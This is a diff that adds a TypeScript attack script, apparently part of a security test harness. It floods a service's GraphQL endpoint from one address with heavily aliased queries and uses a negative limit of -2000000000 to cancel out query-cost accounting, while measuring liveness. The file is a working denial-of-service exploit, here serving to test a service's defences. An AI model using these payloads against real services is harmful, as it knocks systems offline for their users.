@@ -1,0 +1,43 @@
+// One address sends operations whose negative limit would make the rest of the operation free.
+import { sendRequest } from '../http-client.ts'
+import type { Service } from '../service.ts'
+import { ATTACKER_ADDRESS, type Attack } from './lane.ts'
+import { watchLiveness } from './liveness.ts'
+
+const DURATION_MS = 10_000
+const JSON_HEADERS = { 'content-type': 'application/json' }
+
+const DOMAINS = JSON.stringify(Array.from({ length: 10 }, (_, i) => `negative-${i}.com`))
+const repeat = (count: number, textAt: (i: number) => string) =>
+  Array.from({ length: count }, (_, i) => textAt(i)).join(' ')
+const LOGOS = repeat(90, (i) => `l${i}: logo(size: ${16 + i}) { source }`)
+const COSTLY = repeat(300, (i) => `a${i}: companies(domains: ${DOMAINS}) { ...Logos }`)
+const FRAGMENT = `fragment Logos on Company { ${LOGOS} }`
+
+const BODIES = [
+  `{ ${COSTLY} z: search(query: "zz", limit: -2000000000) { name } } ${FRAGMENT}`,
+  `query ($n: Int = -2000000000) { ${COSTLY} z: search(query: "zz", limit: $n) { name } } ${FRAGMENT}`,
+].map((query) => JSON.stringify({ query }))
+export const negativeLimit: Attack = {
+  title: 'Operations with a negative limit, from one address',
+  async run(service: Service) {
+    const stop = watchLiveness(service)
+    const statuses = new Set<number>()
+    let [answers, longest] = [0, 0]
+    for (const end = performance.now() + DURATION_MS; performance.now() < end; answers++) {
+      const { status, bytes } = await sendRequest(
+        `${service.url}/graphql`,
+        JSON_HEADERS,
+        BODIES[answers % BODIES.length],
+        ATTACKER_ADDRESS,
+      )
+      statuses.add(status)
+      longest = Math.max(longest, bytes.byteLength)
+    }
+    return {
+      'answers to the attacker': `${answers}: ${[...statuses].join(', ')}`,
+      'longest answer': `${longest} bytes`,
+      'slowest /livez': await stop(),
+    }
+  },
+}
